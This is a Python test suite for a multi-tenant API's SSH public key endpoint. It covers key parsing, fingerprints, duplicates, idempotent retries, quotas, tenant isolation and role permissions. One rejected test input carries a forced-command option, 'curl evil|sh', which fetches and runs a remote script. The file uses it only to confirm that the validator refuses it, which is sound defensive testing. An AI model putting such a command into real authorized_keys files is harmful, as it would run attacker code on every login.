"""SSH keys (docs/api.md "Tenant API"): parsed by `cryptography`, canonical, bounded, unique per
tenant, within a quota, audited; another tenant's key is 404; viewers read only."""

import base64
import hashlib

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import dsa, ec, ed25519, rsa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.models import AuditEvent
from tenants.models import SshKey
from tenants.ssh_keys import InvalidSshKey, parse_public_key

from .conftest import tenant_client

pytestmark = pytest.mark.django_db


def openssh(key) -> str:
    return key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode()


def ed25519_key() -> str:
    return openssh(ed25519.Ed25519PrivateKey.generate().public_key())


def post_key(client, public_key, name="laptop", key="k1"):
    return client.post(
        "/api/v1/ssh-keys", {"name": name, "public_key": public_key}, format="json", HTTP_IDEMPOTENCY_KEY=key
    )


def ssh_keygen_fingerprint(line: str) -> str:
    """The fingerprint as OpenSSH computes it: SHA-256 of the key blob, base64 without padding."""
    blob = base64.b64decode(line.split()[1])
    return "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")


@pytest.mark.parametrize(
    "make, key_type, bits",
    [
        (lambda: ed25519.Ed25519PrivateKey.generate().public_key(), "ssh-ed25519", 256),
        (lambda: ec.generate_private_key(ec.SECP256R1()).public_key(), "ecdsa-sha2-nistp256", 256),
        (lambda: ec.generate_private_key(ec.SECP384R1()).public_key(), "ecdsa-sha2-nistp384", 384),
        (lambda: rsa.generate_private_key(65537, 3072).public_key(), "ssh-rsa", 3072),
    ],
)
def test_accepted_kinds_register_with_their_fingerprint(tenant_a, client_a, make, key_type, bits):
    line = openssh(make())
    r = post_key(client_a, f"{line} alice@laptop\n")
    assert r.status_code == 201, r.content
    body = r.json()
    assert body["key_type"] == key_type and body["bits"] == bits
    assert body["public_key"] == line  # canonical: no comment, no newline
    assert body["fingerprint"] == ssh_keygen_fingerprint(line)
    assert r["Location"] == f"/api/v1/ssh-keys/{body['id']}"
    assert client_a.get(f"/api/v1/ssh-keys/{body['id']}").json()["fingerprint"] == body["fingerprint"]
    event = AuditEvent.objects.get(action="ssh_key.create", object_id=body["id"])
    assert event.after["fingerprint"] == body["fingerprint"]


@pytest.mark.parametrize(
    "text, says",
    [
        (lambda: openssh(rsa.generate_private_key(65537, 2048).public_key()), "too short"),
        (lambda: openssh(dsa.generate_private_key(1024).public_key()), "not"),
        (lambda: "ssh-foo " + ed25519_key().split()[1], "not an OpenSSH public key"),
        (lambda: 'command="curl evil|sh" ' + ed25519_key(), "options"),
        (lambda: ed25519_key() + "\n" + ed25519_key(), "exactly one"),
        (lambda: "-----BEGIN OPENSSH PRIVATE KEY-----", "private"),
        (lambda: "ssh-ed25519 AAAAnotbase64!!", "not an OpenSSH public key"),
        (lambda: "ssh-ed25519 " + "A" * 20_000, "no more than 16384"),
        (lambda: "", "may not be blank"),
    ],
)
def test_refused_keys_say_why_and_store_nothing(tenant_a, client_a, text, says):
    r = post_key(client_a, text())
    assert r.status_code == 400, r.content
    problem = r.json()
    assert problem["code"] == "validation_error"
    assert any(e["field"] == "public_key" and says in e["message"] for e in problem["errors"]), problem
    assert not SshKey.objects.exists()


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=300))
def test_no_text_is_a_500_and_only_parsed_keys_pass(text):
    try:
        parsed = parse_public_key(text)
    except InvalidSshKey:
        return
    assert parsed.public_key.split()[0] == parsed.key_type  # (random text never gets here in practice)


def test_the_same_key_twice_is_409_and_other_tenants_may_hold_it(tenant_a, tenant_b, client_a, client_b):
    line = ed25519_key()
    first = post_key(client_a, line)
    again = post_key(client_a, line + " other-comment", name="again", key="k2")
    assert again.status_code == 409 and again.json()["code"] == "ssh_key_exists"
    assert again.json()["ssh_key_id"] == first.json()["id"]
    assert post_key(client_b, line).status_code == 201  # a person may work for two tenants
    assert SshKey.objects.count() == 2


def test_idempotent_retry_replays_and_a_different_body_is_422(tenant_a, client_a):
    line = ed25519_key()
    first = post_key(client_a, line, key="same")
    replay = post_key(client_a, line, key="same")
    assert replay.status_code == 201 and replay["Idempotent-Replayed"] == "true"
    assert replay.json()["id"] == first.json()["id"]
    assert post_key(client_a, ed25519_key(), key="same").status_code == 422
    assert SshKey.objects.count() == 1


def test_quota(tenant_a, client_a):
    tenant_a.max_ssh_keys = 2
    tenant_a.save()
    for i in range(2):
        assert post_key(client_a, ed25519_key(), key=f"q{i}").status_code == 201
    r = post_key(client_a, ed25519_key(), key="q3")
    assert r.status_code == 403 and r.json()["code"] == "quota_exceeded"
    assert r.json()["quota"] == {"max_ssh_keys": 2, "ssh_keys": 2}


def test_another_tenants_key_is_404_to_read_delete_and_use(small_fleet, tenant_a, tenant_b, client_a, client_b):
    theirs = post_key(client_b, ed25519_key()).json()["id"]
    assert client_a.get(f"/api/v1/ssh-keys/{theirs}").status_code == 404
    assert client_a.delete(f"/api/v1/ssh-keys/{theirs}").status_code == 404
    assert client_a.get("/api/v1/ssh-keys").json()["results"] == []
    body = {"name": "t", "instance_type": "h100-sxm-8x", "node_count": 1, "ssh_key_ids": [theirs]}
    r = client_a.post("/api/v1/allocations", body, format="json", HTTP_IDEMPOTENCY_KEY="a1")
    assert r.status_code == 404 and theirs in r.json()["detail"]
    assert not client_a.get("/api/v1/allocations").json()["results"]
    assert SshKey.objects.filter(pk=theirs).exists()


def test_roles(tenant_a):
    viewer = tenant_client(tenant_a, role="viewer")
    member = tenant_client(tenant_a, role="member")
    assert post_key(viewer, ed25519_key()).status_code == 403
    created = post_key(member, ed25519_key()).json()["id"]
    assert viewer.get("/api/v1/ssh-keys").status_code == 200
    assert viewer.delete(f"/api/v1/ssh-keys/{created}").status_code == 403
    assert member.delete(f"/api/v1/ssh-keys/{created}").status_code == 204
    assert AuditEvent.objects.filter(action="ssh_key.delete", object_id=created).exists()
    assert member.get(f"/api/v1/ssh-keys/{created}").status_code == 404


def test_operator_agent_and_anonymous_are_refused(small_fleet, tenant_a, client, ops_api):
    from rest_framework.test import APIClient

    from core.api.agent_tokens import mint_agent_token
    from fleet.models import Node

    assert client.get("/api/v1/ssh-keys").status_code == 401
    assert ops_api.get("/api/v1/ssh-keys").status_code == 403
    assert post_key(ops_api, ed25519_key()).status_code == 403
    agent = APIClient()
    agent.credentials(HTTP_AUTHORIZATION=f"Bearer {mint_agent_token(Node.objects.first().pk)}")
    assert agent.get("/api/v1/ssh-keys").status_code == 403
    assert post_key(agent, ed25519_key()).status_code == 403
    assert not SshKey.objects.exists()
